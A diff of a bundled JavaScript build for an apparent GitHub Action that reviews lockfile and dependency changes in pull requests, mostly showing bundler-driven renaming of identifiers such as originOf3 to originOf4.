     for (const key of ["", lineOf2(each)]) {
-      const known = newest.get(key);
-      if (known === void 0 || isNewer(each, known)) newest.set(key, each);
+      const known2 = newest.get(key);
+      if (known2 === void 0 || isNewer(each, known2)) newest.set(key, each);
     }
   }
   return (each) => newest.get(lineOf2(each)) ?? newest.get("");
@@ -57963,15 +59718,15 @@ var NOTHING3 = namedOf([]);
 function inventoryOf(grants) {
   const packages = distinct3(grants.filter((grant) => grant.kind === "package"));
   const unread3 = grants.filter((grant) => grant.kind === "unread-lockfile");
-  const groups3 = Map.groupBy(packages, nameOf3);
+  const groups3 = Map.groupBy(packages, nameOf2);
   const byName = new Map([...groups3].map(([name, group2]) => [name, namedOf(group2)]));
   const identities = new Set(packages.map(identityOf3));
   const ecosystems = new Set(packages.map((each) => each.ecosystem));
-  const origins = new Set(packages.map((each) => JSON.stringify([each.ecosystem, originOf3(each.source)])));
+  const origins = new Set(packages.map((each) => JSON.stringify([each.ecosystem, originOf4(each.source)])));
   return {
     packages,
     unread: unread3,
-    named: (each) => byName.get(nameOf3(each)) ?? NOTHING3,
+    named: (each) => byName.get(nameOf2(each)) ?? NOTHING3,
     has: (each) => identities.has(identityOf3(each)),
     isEmpty: (ecosystem) => !ecosystems.has(ecosystem),
     takesFrom: (ecosystem, origin) => origins.has(JSON.stringify([ecosystem, origin]))
@@ -57980,7 +59735,7 @@ function inventoryOf(grants) {
 function namedOf(packages) {
   return {
     packages,
-    origins: new Set(packages.map((each) => originOf3(each.source))),
+    origins: new Set(packages.map((each) => originOf4(each.source))),
     links: new Set(packages.map((each) => each.links)),
     nearest: nearestOf(packages)
   };
@@ -57993,12 +59748,12 @@ function distinct3(packages) {
   }
   return [...first.values()];
 }
-function originOf3(source) {
+function originOf4(source) {
   if (source.startsWith("git ")) return source.replace(/[?#].*$/s, "");
   if (!source.startsWith("tarball ")) return source;
   return /^tarball [a-z+]+:\/\/[^/?#]*(?:\/[^/?#]*){0,2}/i.exec(source)?.[0] ?? source;
 }
-function nameOf3({ ecosystem, name }) {
+function nameOf2({ ecosystem, name }) {
   return JSON.stringify([ecosystem, name]);
 }
 function identityOf3({ ecosystem, name, version, source, checksum }) {
@@ -58010,12 +59765,12 @@ var OWN = /* @__PURE__ */ new Set(["path", "bundled"]);
 function movedSources(before, after) {
   const moved = /* @__PURE__ */ new Map();
   for (const each of after.packages) {
-    const origin = originOf3(each.source);
+    const origin = originOf4(each.source);
     if (OWN.has(origin)) continue;
     const old = before.named(each);
     const isNew2 = old.packages.length === 0 ? isForeign2(each, origin, before) : !old.origins.has(origin);
     if (!isNew2) continue;
-    const key = JSON.stringify([nameOf3(each), origin]);
+    const key = JSON.stringify([nameOf2(each), origin]);
     if (!moved.has(key)) moved.set(key, each);
   }
   return [...moved.values()];
@@ -58034,8 +59789,8 @@ function differences(before, after) {
     ...newPlugins(before, after).map((each) => difference("plugin-added", each, before)),
     ...newLinks(before, after).map((each) => difference("links-added", each, before))
   ];
-  const told = new Set(found2.map(({ package: each }) => nameOf3(each)));
-  const plain6 = newNames(before, after).filter((each) => !told.has(nameOf3(each)));
+  const told = new Set(found2.map(({ package: each }) => nameOf2(each)));
+  const plain6 = newNames(before, after).filter((each) => !told.has(nameOf2(each)));
   return folded([...found2, ...plain6.map((each) => difference("package-added", each, before))]);
 }
 function difference(cause, each, before, step = null) {
@@ -58045,8 +59800,8 @@ function difference(cause, each, before, step = null) {
 function newNames(before, after) {
   const names2 = /* @__PURE__ */ new Map();
   for (const each of after.packages) {
-    if (each.source === "path" || names2.has(nameOf3(each)) || before.named(each).packages.length > 0) continue;
-    names2.set(nameOf3(each), each);
+    if (each.source === "path" || names2.has(nameOf2(each)) || before.named(each).packages.length > 0) continue;
+    names2.set(nameOf2(each), each);
   }
   return [...names2.values()];
 }
@@ -58059,7 +59814,7 @@ function newLinks(before, after) {
   for (const each of after.packages) {
     const { packages, links } = before.named(each);
     if (each.links === null || packages.length === 0 || links.has(each.links)) continue;
-    linking.set(JSON.stringify([nameOf3(each), each.links]), each);
+    linking.set(JSON.stringify([nameOf2(each), each.links]), each);
   }
   return [...linking.values()].filter((each) => {
     return before.named(each).packages.every((other) => other.unknown === null);
@@ -58078,7 +59833,7 @@ function thingOf(each) {
       return kindOf2(each);
     case "source-changed": {
       const { package: it, from } = each;
-      return JSON.stringify([it.ecosystem, it.at.path, from && originOf3(from.source), originOf3(it.source)]);
+      return JSON.stringify([it.ecosystem, it.at.path, from && originOf4(from.source), originOf4(it.source)]);
     }
     default:
       return each;
@@ -58110,9 +59865,9 @@ function pathsOf2({ packages }, ecosystem) {
   return [...new Set(packages.filter((each) => each.ecosystem === ecosystem).map((each) => each.at.path))];
 }
 function changedUnread(base, head) {
-  const known = new Map(base.unread.map((lockfile) => [lockfile.path, lockfile.id]));
-  return head.unread.filter((lockfile) => known.get(lockfile.path) !== lockfile.id).map(({ path }) => {
-    const verb = known.has(path) ? "changed" : "is new";
+  const known2 = new Map(base.unread.map((lockfile) => [lockfile.path, lockfile.id]));
+  return head.unread.filter((lockfile) => known2.get(lockfile.path) !== lockfile.id).map(({ path }) => {
+    const verb = known2.has(path) ? "changed" : "is new";
     return gapIn(
       path,
       "unsupported",
@@ -58142,7 +59897,7 @@ function changeOf3(difference2, direction) {
     domain: "packages",
     direction,
     cause,
-    at: placeOf2(difference2),
+    at: placeOf4(difference2),
     subject: subjectOf(difference2),
     action: ACTIONS[cause],
     witness: witnessOf2(difference2),
@@ -58174,7 +59929,7 @@ var ACTIONS = {
   "package-added": "put code into the app"
 };
 function ownersOf(all) {
-  return new Set(all.map((each) => originOf3(each.source))).size;
+  return new Set(all.map((each) => originOf4(each.source))).size;
 }
 function subjectOf({ package: each, all }) {
   const kind = each.ecosystem === "cargo" ? "crate" : "package";
@@ -58260,14 +60015,14 @@ function stepText(each, step) {
       return each.runs ? `npm ci  # runs the install script of ${title}` : `npm ci  # runs the install script of ${title} once it is approved`;
   }
 }
-function placeOf2({ cause, package: each, from }) {
+function placeOf4({ cause, package: each, from }) {
   if (from === void 0) return each.at;
   if (cause === "source-changed") return each.lines.source;
   if (cause === "checksum-changed") return each.lines.checksum;
   return from.version === each.version ? each.at : each.lines.version;
 }
 function identityOf4({ cause, package: each, all }) {
-  const names2 = all.map(({ name, source }) => [name, originOf3(source)]);
+  const names2 = all.map(({ name, source }) => [name, originOf4(source)]);
   const bytes = cause === "checksum-changed" ? [each.version, each.checksum] : [];
   const more = cause === "links-added" ? [each.links] : cause === "install-script-added" ? [each.runs] : [];
   return JSON.stringify([cause, each.ecosystem, names2, ...bytes, ...more]);
@@ -58344,12 +60099,12 @@ function judge(app, changes, base, head) {
   return { findings, narrowings: narrowings2, gaps: gaps2 };
 }
 function findingOf(app, change) {
-  for (const rule29 of rules) {
-    const judgement = rule29.judge(change);
+  for (const rule54 of rules) {
+    const judgement = rule54.judge(change);
     if (judgement === void 0) continue;
     const { at, subject, action, witness, base, head, identity } = change;
     return {
-      rule: rule29.id,
+      rule: rule54.id,
       ...judgement,
       app,
       ...at,
@@ -58470,11 +60225,11 @@ function hidesSome({ gaps: gaps2 }) {
   return gaps2.some(({ kind }) => kind === "unparsed" || kind === "unreadable" || kind === "truncated");
 }
 function settled(before, after) {
-  const known = new Set(before.gaps.flatMap(({ rests }) => rests ?? []));
+  const known2 = new Set(before.gaps.flatMap(({ rests }) => rests ?? []));
   const still = new Set(restingGrants(after));
   if (!restingGrants(before).every((grant) => still.has(grant))) return after.gaps;
   return after.gaps.map(
-    (gap) => gap.rests !== void 0 && known.has(gap.rests) ? { ...gap, blocking: false } : gap
+    (gap) => gap.rests !== void 0 && known2.has(gap.rests) ? { ...gap, blocking: false } : gap
   );
 }
 function restingGrants({ grants }) {
@@ -58520,9 +60275,9 @@ async function reviewTrees({
   const apps = files.touched.flatMap((pair) => appUnderReview(pair, files.base, files.head.files) ?? []);
   const needs = apps.flatMap(needsOf);
   if (needs.length > 0) progress(`Looking up ${needs.length} packages`);
-  const known = await facts.fetch(needs);
+  const known2 = await facts.fetch(needs);
   progress("Comparing");
-  const judged = apps.map((app) => reviewApp(app, known));
+  const judged = apps.map((app) => reviewApp(app, known2));
   const found2 = once(judged.flatMap((each) => each.findings)).sort(comparePlaces);
   const { findings, turnedOff } = applyPolicy(found2, policy);
   const gaps2 = once([
@@ -58543,7 +60298,7 @@ async function reviewTrees({
     turnedOff,
     narrowings: once(judged.flatMap((each) => each.narrowings)).sort(comparePlaces),
     gaps: gaps2,
-    facts: known.used()
+    facts: known2.used()
   };
 }
 async function findApps(base, head, before, after) {
@@ -58644,7 +60399,7 @@ function levelOf(level) {
 // src/hosts/github/policy.ts
 var NO_POLICY = { ok: true, policy: DEFAULT_POLICY };
 function policyOf(file2, failOn) {
-  const reading = file2 === null ? NO_POLICY : read(file2.id, file2.bytes);
+  const reading = file2 === null ? NO_POLICY : read2(file2.id, file2.bytes);
   if (!reading.ok || failOn === void 0) return reading;
   return { ok: true, policy: tightenedTo(reading.policy, failOn) };
 }
@@ -58655,10 +60410,10 @@ async function policyNotices(current, base, head) {
   );
   if (there?.id === here?.id) return [];
   const bytes = here === void 0 ? void 0 : (await head.read([here])).get(here.id);
-  const edited = here === void 0 || bytes === void 0 ? NO_POLICY : read(here.id, bytes);
+  const edited = here === void 0 || bytes === void 0 ? NO_POLICY : read2(here.id, bytes);
   return policyNotice(policyOf(current), edited)?.sentences ?? [];
 }
-function read(id, bytes) {
+function read2(id, bytes) {
   try {
     return readPolicy({
       path: POLICY_PATH,
@@ -58757,7 +60512,7 @@ async function postReview(target, body, comments) {
       event: "COMMENT",
       // an App's other events bind people, and stay until it takes them back
       body: fitted(body),
-      comments: comments.map((comment) => ({ ...placeOf3(comment), body: fitted(comment.body) }))
+      comments: comments.map((comment) => ({ ...placeOf5(comment), body: fitted(comment.body) }))
     }),
     doing
   );
@@ -58787,7 +60542,7 @@ async function postComment(target, comment) {
       pull_number: number,
       commit_id: head,
       body,
-      ...placeOf3(comment)
+      ...placeOf5(comment)
     }),
     doing
   );
@@ -58808,7 +60563,7 @@ async function findComment({ github, repository, number, head }, body) {
   );
   return numberIn(found2, "id");
 }
-function placeOf3({ anchor }) {
+function placeOf5({ anchor }) {
   const { path } = anchor;
   if (anchor.kind === "file") return { path, subject_type: "file" };
   const { line, startLine } = anchor;
@@ -59075,9 +60830,9 @@ function listedOnce(tree) {
 }
 
 // src/renderers/rule-link.ts
-function ruleLink(rule29, rulePages2) {
-  const isPlain2 = /^[a-z0-9-]+\/[a-z0-9-]+$/.test(rule29);
-  return rulePages2 === null || !isPlain2 ? codeSpan(rule29) : `[${codeSpan(rule29)}](${rulePages2}/${rule29})`;
+function ruleLink(rule54, rulePages2) {
+  const isPlain2 = /^[a-z0-9-]+\/[a-z0-9-]+$/.test(rule54);
+  return rulePages2 === null || !isPlain2 ? codeSpan(rule54) : `[${codeSpan(rule54)}](${rulePages2}/${rule54})`;
 }
 
 // src/renderers/comment.ts
@@ -59168,11 +60923,11 @@ function table3(listed, rulePages2) {
   const more = left === 0 ? [] : ["", `${counted2(left, "more finding")} in the check's summary, none of them worse.`];
   return [...head, ...shown2, ...more].join("\n");
 }
-function tableRow2({ severity, title, witness, rule: rule29, path, line }, rulePages2) {
+function tableRow2({ severity, title, witness, rule: rule54, path, line }, rulePages2) {
   const example = witness.text.slice(0, LONGEST_EXAMPLE).toWellFormed();
   return row(
     severity,
-    `${sentence2(title, 300)} (${ruleLink(rule29, rulePages2)})`,
+    `${sentence2(title, 300)} (${ruleLink(rule54, rulePages2)})`,
     codeSpan(example === witness.text ? example : `${example}…`),
     codeSpan(placeInWords({ path, line }))
   );
@@ -59270,13 +61025,13 @@ function diffLines(patch) {
   const lines2 = patch.split("\n");
   const left = /* @__PURE__ */ new Set();
   const right = /* @__PURE__ */ new Set();
-  const added = [];
+  const added2 = [];
   const hunks = [];
   let index = lines2.findIndex((line) => line.startsWith("@@"));
   if (index < 0) return null;
   while (index < lines2.length) {
     const header = headerIn(lines2[index] ?? "");
-    if (header === void 0) return isRest(lines2.slice(index)) ? { left, right, added, hunks } : null;
+    if (header === void 0) return isRest(lines2.slice(index)) ? { left, right, added: added2, hunks } : null;
     index++;
     let { base, head, baseLeft, headLeft } = header;
     const runs2 = new AddedRuns(head);
@@ -59294,10 +61049,10 @@ function diffLines(patch) {
       if (inHead) headLeft--;
     }
     if (head > header.head) hunks.push({ first: header.head, last: head - 1 });
-    for (const run2 of runs2.finish()) added.push(run2);
+    for (const run2 of runs2.finish()) added2.push(run2);
     while (lines2[index]?.startsWith("\\")) index++;
   }
-  return { left, right, added, hunks };
+  return { left, right, added: added2, hunks };
 }
 var HEADER = /^@@ -(\d{1,9})(?:,(\d{1,9}))? \+(\d{1,9})(?:,(\d{1,9}))? @@/;
 function headerIn(line) {
@@ -59427,9 +61182,9 @@ var SuggestedLines = class {
     return suggestion;
   }
 };
-function isAdded(suggestion, { added }) {
+function isAdded(suggestion, { added: added2 }) {
   const { first, last: last2 } = removedLines(suggestion);
-  return added.some((run2) => isWithin(run2, first, last2));
+  return added2.some((run2) => isWithin(run2, first, last2));
 }
 function isOneHunk({ first, last: last2 }, { hunks, right }) {
   return hunks.some((hunk) => hunk.first <= first && last2 <= hunk.last) && range(first, last2).every((line) => right.has(line));
@@ -59518,7 +61273,7 @@ function resolutions(gone, { gaps: gaps2, turnedOff }, head, wording) {
     if (marker.state === "resolved") left.push({ id, why: "resolved before" });
     else if (gaps2.some((gap) => mayHide2(gap, comment))) left.push({ id, why: "not looked at" });
     else {
-      const isOff = turnedOff.some(({ rule: rule29 }) => rule29 === marker.rule);
+      const isOff = turnedOff.some(({ rule: rule54 }) => rule54 === marker.rule);
       const because = isOff ? { kind: "rule-off", rule: marker.rule } : { kind: "fixed", head };
       const body = withMarker(wording.resolved(words3, because), { ...marker, head, state: "resolved" });
       resolve4.push({ id, body, threadId: answered || threadResolved ? null : threadId });
@@ -59775,22 +61530,22 @@ var INPUTS = {
     default: ""
   }
 };
-function readInputs(textOf3) {
-  const token = textOf3("github-token").trim();
+function readInputs(textOf4) {
+  const token = textOf4("github-token").trim();
   if (token === "")
     throw new SetupError("The input `github-token` is empty. Leave it out to use the job's token.");
   return {
     token,
-    failOn: failOnIn(textOf3("fail-on").trim()),
+    failOn: failOnIn(textOf4("fail-on").trim()),
     comment: isTrue("comment"),
     check: isTrue("check"),
     offline: isTrue("offline"),
-    sarifFile: textOf3("sarif-file").trim() || null,
-    jsonFile: textOf3("json-file").trim() || null,
-    cache: textOf3("cache").trim() || null
+    sarifFile: textOf4("sarif-file").trim() || null,
+    jsonFile: textOf4("json-file").trim() || null,
+    cache: textOf4("cache").trim() || null
   };
   function isTrue(name) {
-    const text = textOf3(name).trim() || INPUTS[name].default;
+    const text = textOf4(name).trim() || INPUTS[name].default;
     if (text === "true" || text === "false") return text === "true";
     throw new SetupError(`The input \`${name}\` is true or false.`);
   }
